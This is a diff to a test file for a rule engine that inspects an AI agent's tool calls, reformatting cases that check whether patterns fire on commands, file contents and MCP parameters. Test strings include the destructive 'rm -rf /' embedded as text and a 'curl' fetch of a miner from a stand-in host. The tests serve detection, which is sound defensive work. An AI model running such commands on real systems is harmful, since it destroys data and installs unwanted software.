@@ -26,8 +26,8 @@ describe('data is not code', () => {
     'gh pr create --title x --body "runs rm -rf / no more"',
     "grep -rn 'rm -rf /' src",
     "cat > f.md <<'EOF'\nnever rm -rf / this\nEOF",
-    "git commit -m \"$(cat <<'EOF'\nwhy rm -rf / hurts\nEOF\n)\"",
-    "psql <<A; cat <<B > f\nselect 1\nA\nrm -rf / is text\nB",
+    'git commit -m "$(cat <<\'EOF\'\nwhy rm -rf / hurts\nEOF\n)"',
+    'psql <<A; cat <<B > f\nselect 1\nA\nrm -rf / is text\nB',
   ])('is dropped in %j', (command) => expect(fires(REGEX, command)).toBe(false));
   it('drops nothing that a program acts on', () => {
     expect(fires('match coin\\.example', 'curl https://coin.example/miner')).toBe(true);
@@ -56,15 +56,28 @@ describe('each kind of call has its own subject', () => {
     mcp: { kind: 'mcp', context, server: 's', tool: 't', params: { a: { b: ['needle'] } }, launch: null },
     other: { kind: 'other', context, params: { x: 'needle' } },
   };
-  it.each(Object.keys(calls))('%s', (kind) => expect(fires('match needle', calls[kind] as ToolCall)).toBe(true));
+  it.each(Object.keys(calls))('%s', (kind) =>
+    expect(fires('match needle', calls[kind] as ToolCall)).toBe(true),
+  );
   it('content is seen by match_content alone', () => {
-    const call: ToolCall = { kind: 'write', context, changes: [{ kind: 'write', path: '/a', content: 'a needle' }] };
+    const call: ToolCall = {
+      kind: 'write',
+      context,
+      changes: [{ kind: 'write', path: '/a', content: 'a needle' }],
+    };
     expect(fires('match needle', call)).toBe(false);
     expect(fires('match_content needle', call)).toBe(true);
     expect(fires('match_path needle', call)).toBe(false);
   });
   it('a shell-like parameter is a command', () => {
-    const call: ToolCall = { kind: 'mcp', context, server: 's', tool: 'run', params: { command: 'echo needle' }, launch: null };
+    const call: ToolCall = {
+      kind: 'mcp',
+      context,
+      server: 's',
+      tool: 'run',
+      params: { command: 'echo needle' },
+      launch: null,
+    };
     expect(fires('match_command echo\\s+x', call)).toBe(false);
     expect(fires('match ^echo', call)).toBe(true);
   });
